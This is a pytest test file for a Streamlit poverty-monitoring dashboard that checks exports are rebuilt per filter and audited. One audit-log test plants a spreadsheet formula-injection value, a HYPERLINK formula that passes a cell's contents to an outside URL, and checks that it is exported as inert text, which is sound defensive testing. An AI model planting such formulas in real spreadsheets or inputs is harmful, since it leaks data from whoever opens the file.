"""Downloads are built when the button is clicked, from what the page shows then: after a change of month,
quarter, area or filter the file offered is the new one (never bytes kept from an earlier run), and the
audit row is written when the file is built, not when the page is drawn."""

from __future__ import annotations

import io
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from fupin.access import audit
from fupin.access.scope import Viewer
from fupin.reports.exports import DEMO_LABEL
from tests.conftest import Download, app_test, downloads

ROOT = Path(__file__).parent.parent
BYTE_CACHES = ("mc_xlsx", "mc_bulletin", "fd_export", "rf_export", "rf_export_rows")


@pytest.fixture()
def site(tiny_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("FUPIN_DB", str(tiny_db))
    monkeypatch.setenv("FUPIN_STORE", str(tmp_path / "audit.sqlite"))
    monkeypatch.chdir(ROOT)
    return tiny_db


def open_page(page: str, *, month: str = "2020-06", county: str = "", user: str = "admin") -> AppTest:
    at = app_test(user, timeout=90)
    at.session_state["month"] = month
    if county:
        at.session_state["city"], at.session_state["county"] = county[:4] + "00", county
    at.run()
    at.switch_page(page).run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def count(db: Path, sql: str) -> int:
    return duckdb.connect(str(db), read_only=True).execute(sql).fetchone()[0]


def exports_audited() -> list[dict]:
    return [r for r in audit.rows(1000) if r["action"].startswith("export")]


def built(at: AppTest, made: dict[str, Download], label: str) -> tuple[str, bytes]:
    """The file name the button offers and the bytes it builds when clicked."""
    name, make = downloads(at, made)[label]
    assert make is not None, f"{label}: ready-made bytes, not built on click"
    data = make()
    return str(name), data if isinstance(data, bytes) else data.encode("utf-8")  # type: ignore[union-attr]


def no_byte_caches(at: AppTest) -> None:
    assert not [k for k in BYTE_CACHES if k in at.session_state], "generated files kept in session state"


def test_month_workbook_follows_the_sidebar_month(site: Path, deferred: dict[str, Download]) -> None:
    at = open_page("app_pages/month_check.py", month="2020-05")
    name, data = built(at, deferred, "下载月核查工作簿")
    assert name == "月核查_2020-05.xlsx"
    assert openpyxl.load_workbook(io.BytesIO(data))["汇总"]["A1"].value.startswith("月核查 · 2020年5月")
    at.session_state["month"] = "2020-03"  # the sidebar's month
    at.run()
    assert not at.exception
    before = len(exports_audited())
    name, data = built(at, deferred, "下载月核查工作簿")
    assert name == "月核查_2020-03.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book["汇总"]["A1"].value.startswith("月核查 · 2020年3月")
    new = count(site, "select count(*) from warning_flag_month where month = date '2020-03-01' and flag_status = 'new'")
    summary = pd.read_excel(io.BytesIO(data), sheet_name="汇总", header=2, engine="calamine")
    assert summary["县（市、区）"].iloc[-1] == "合计"
    summary = summary.iloc[:-1]  # the counties, less the 合计 row
    assert (
        summary["预警新增"].sum() == new
        and len(pd.read_excel(io.BytesIO(data), sheet_name="红色预警新增", header=2, engine="calamine")) == new
    )
    rows = exports_audited()
    assert len(rows) == before + 1 and rows[0]["action"] == "export_month_check"
    assert '"month": "2020-03"' in rows[0]["filters"] and rows[0]["row_count"] == len(summary)
    no_byte_caches(at)


def test_month_workbook_is_audited_only_when_built(site: Path, deferred: dict[str, Download]) -> None:
    at = open_page("app_pages/month_check.py", month="2020-04")
    at.run()  # reruns draw the button again: still nothing exported
    assert exports_audited() == []
    built(at, deferred, "下载月核查工作簿")
    built(at, deferred, "下载月核查工作簿")  # each download is one export
    assert [r["action"] for r in exports_audited()] == ["export_month_check", "export_month_check"]


def test_bulletin_follows_the_quarter(site: Path, deferred: dict[str, Download]) -> None:
    at = open_page("app_pages/month_check.py")
    at.selectbox(key="mc_quarter").set_value("2020Q2").run()
    assert exports_audited() == []
    assert built(at, deferred, "下载季通报 XLSX")[0] == "季通报_2020Q2.xlsx"
    at.selectbox(key="mc_quarter").set_value("2020Q1").run()
    name, data = built(at, deferred, "下载季通报 XLSX")
    assert name == "季通报_2020Q1.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book["全省概况"]["A1"].value.startswith("季通报 · 2020年第一季度")
    assert book.sheetnames[-1] == "督办落实"  # the 督办 loop by county
    assert [ws["A2"].value for ws in book.worksheets] == [DEMO_LABEL] * 5  # the tiny warehouse is synthetic
    name, page = built(at, deferred, "下载季通报（网页，可打印为A4）")
    assert (
        name == "季通报_2020Q1.html" and "2020年第一季度" in page.decode("utf-8") and "演示数据" in page.decode("utf-8")
    )
    name, pdf = built(at, deferred, "下载季通报 PDF（公文格式）")
    assert name == "季通报_2020Q1.pdf" and pdf.startswith(b"%PDF")
    from pypdf import PdfReader

    first = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    assert "关于2020年第一季度" in first and "演示数据" in first
    rows = exports_audited()
    assert [r["action"] for r in rows] == ["export_bulletin"] * 4
    assert ['"quarter": "2020Q1"' in r["filters"] for r in rows] == [True, True, True, False]
    assert '"format": "pdf"' in rows[0]["filters"]
    no_byte_caches(at)


def test_findings_follow_the_filter(site: Path, deferred: dict[str, Download]) -> None:
    at = open_page("app_pages/funds.py")
    _, data = built(at, deferred, "下载问题清单")
    everything = pd.read_excel(io.BytesIO(data), header=2, engine="calamine")
    assert len(everything) == count(site, "select count(*) from compliance_finding")
    at.selectbox(key="fd_check").set_value("F4").run()
    name, data = built(at, deferred, "下载问题清单")
    f4 = pd.read_excel(io.BytesIO(data), header=2, engine="calamine")
    assert name == "资金合规问题_2020-06.xlsx" and set(f4["检查"]) == {"F4"} and 0 < len(f4) < len(everything)
    assert openpyxl.load_workbook(io.BytesIO(data))["资金合规问题清单"]["A2"].value == DEMO_LABEL
    rows = exports_audited()
    assert rows[0]["action"] == "export_findings_xlsx" and rows[0]["row_count"] == len(f4)
    assert '"check": "F4"' in rows[0]["filters"]
    no_byte_caches(at)


def test_work_order_follows_the_month(site: Path, deferred: dict[str, Download]) -> None:
    at = open_page("app_pages/warnings.py", month="2020-05")
    built(at, deferred, next(k for k in downloads(at, deferred) if k.startswith("下载工作单")))
    at.session_state["month"] = "2020-03"
    at.run()
    label = next(k for k in downloads(at, deferred) if k.startswith("下载工作单"))
    expected = (
        duckdb.connect(str(site), read_only=True)
        .execute(
            "select household_id from warning_flag_month where month = date '2020-03-01' and red_flag "
            "and household_category in ('脱贫监测户', '边缘户')"
        )
        .df()["household_id"]
    )
    assert label == f"下载工作单（{len(expected):,}户）"
    name, data = built(at, deferred, label)
    sheet = pd.read_excel(io.BytesIO(data), header=2, dtype=str, engine="calamine")
    assert name == "红色预警户_2020-03.xlsx" and sorted(sheet["户编号"]) == sorted(expected)
    ws = openpyxl.load_workbook(io.BytesIO(data))["红色预警户工作单"]
    assert "2020年3月" in ws["A1"].value and ws["A2"].value == DEMO_LABEL
    rows = exports_audited()
    assert len(rows) == 2 and rows[0]["action"] == "export_xlsx" and rows[0]["row_count"] == len(expected)
    assert '"month": "2020-03-01"' in rows[0]["filters"]
    no_byte_caches(at)


# ------------------------------------------------------------------ every unmasked list view and every download


def audited(action: str) -> list[dict]:
    return [r for r in audit.rows(1000) if r["action"] == action]


def test_unmasked_list_pages_are_audited_once_each(site: Path) -> None:
    at = open_page("app_pages/warnings.py", month="2020-06")
    at.toggle(key="rf_red_only").set_value(False)  # every 脱贫监测户, red or not: two pages
    at.multiselect(key="rf_categories").set_value(["脱贫监测户"]).run()
    assert audited("view_list_unmasked") == []  # masked: nothing to record
    total = count(
        site,
        "select count(*) from warning_flag_month where month = date '2020-06-01' and household_category = '脱贫监测户'",
    )
    assert 50 < total <= 100  # two pages
    at.toggle(key="rf_unmask").set_value(True).run()
    first = audited("view_list_unmasked")
    assert len(first) == 1 and first[0]["unmasked"] == 1 and first[0]["row_count"] == 50
    assert '"page": 1' in first[0]["filters"] and '"month": "2020-06-01"' in first[0]["filters"]
    at.run()  # a rerun with nothing changed
    at.selectbox(key="rf_sort").set_value("household").run()
    at.selectbox(key="rf_sort").set_value("score").run()  # back to a view already recorded
    assert len(audited("view_list_unmasked")) == 2  # page 1 by score, page 1 by household id
    at.number_input(key="rf_page").set_value(2).run()
    rows = audited("view_list_unmasked")
    assert len(rows) == 3 and rows[0]["row_count"] == total - 50 and '"page": 2' in rows[0]["filters"]
    at.toggle(key="rf_unmask").set_value(False).run()
    at.number_input(key="rf_page").set_value(1).run()
    assert len(audited("view_list_unmasked")) == 3  # masked pages are not recorded


def test_audit_log_download_is_audited_and_text_stays_text(site: Path, deferred: dict[str, Download]) -> None:
    typed = '=HYPERLINK("http://x/?"&E5,"查看")'
    audit.sign_in_event(typed, "login_failed")  # an anonymous "username": logged as unverified, as typed
    hostile = Viewer(name=typed, role="county", scope_level="county", scope_code="341221", username="x")
    audit.record(hostile, "household_detail", household_id="1")  # a display name from the accounts file
    at = open_page("app_pages/audit_log.py")
    assert audited("export_audit_log") == []
    name, data = built(at, deferred, "下载审计记录（XLSX）")
    assert name.startswith("审计日志_") and name.endswith(".xlsx")
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(data))["审计记录"].iter_rows() for c in row]
    user = next(c for c in cells if c.value == typed)
    assert user.data_type == "s"  # a string, not a live formula
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = audited("export_audit_log")
    logged = [r for r in audit.rows(10_000) if r["action"] != "export_audit_log"]  # the two above and the 督办 sync's
    assert len(rows) == 1 and rows[0]["row_count"] == len(logged) and rows[0]["viewer"] == "省扶贫办管理员（演示）"
    assert any(c.value == f"（未验证）{typed}" for c in cells)


def test_map_downloads_are_audited(site: Path, deferred: dict[str, Download]) -> None:
    at = open_page("app_pages/map.py", month="2020-04")
    offered = downloads(at, deferred)
    name, data = built(at, deferred, "下载数据 CSV")
    assert name == "剩余贫困人口_2020-04.csv"
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("剩余贫困人口地图 · 2020年4月") and lines[1] == DEMO_LABEL  # title rows, then the header
    table = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype={"县代码": str}, skiprows=2)
    assert len(table) == 104 and table["剩余贫困人口（人）"].sum() == count(
        site, "select sum(remaining_poor_persons) from summary_county_month where month = date '2020-04-01'"
    )
    name, data = built(at, deferred, "下载数据 XLSX")
    sheet = pd.read_excel(io.BytesIO(data), header=2, engine="calamine", dtype={"县代码": str})
    assert name == "剩余贫困人口_2020-04.xlsx" and len(sheet) == 104 + 1  # the counties and a 合计 row
    assert (
        sheet["县代码"].iloc[-1] == "合计" and sheet["剩余贫困人口（人）"].iloc[-1] == table["剩余贫困人口（人）"].sum()
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["剩余贫困人口 · 2020年4月"] and book.worksheets[0]["A2"].value == DEMO_LABEL
    assert [(r["action"], r["row_count"]) for r in audited("export_map_csv") + audited("export_map_xlsx")] == [
        ("export_map_csv", 104),
        ("export_map_xlsx", 104),
    ]
    assert list(offered) == ["下载数据 CSV", "下载数据 XLSX"]


def test_tables_offer_no_csv_download() -> None:
    """st.dataframe's own CSV download (and copy) is switched off in the server's config, so the browser never
    draws the control (tests/test_browser.py checks the DOM); CSS only hid it before."""
    import subprocess
    import sys

    code = (
        "from streamlit import config; from streamlit.proto.NewSession_pb2 import Config; "
        "from streamlit.runtime.app_session import _populate_config_msg; m = Config(); _populate_config_msg(m); "
        "print(config.get_option('client.disableDataExport'), m.disable_data_export)"
    )
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["True", "True"]  # read from the project's .streamlit/config.toml
    from fupin.ui import render as ui

    assert "Download as CSV" not in ui.NORMAL_CSS + ui.PRESENT_CSS  # no longer a control merely hidden


def test_department_hits_download_is_marked_and_named(site: Path, deferred: dict[str, Download]) -> None:
    """The 部门比对 hit list: its own sheet name, the 演示数据 row, every hit the page counts (it raised before:
    the call gave no synthetic flag)."""
    at = open_page("app_pages/departments.py")
    name, data = built(at, deferred, "下载命中清单（脱敏 XLSX）")
    assert name == "部门比对命中_2020-06.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book["部门比对命中清单"]
    assert ws["A1"].value.startswith("部门数据比对命中清单 · 2020年6月") and ws["A2"].value == DEMO_LABEL
    rows = audited("export_department_hits")
    assert len(rows) == 1 and rows[0]["row_count"] == ws.max_row - 3 > 0
    assert ws.freeze_panes == "A4" and ws.auto_filter.ref.startswith("A3:")
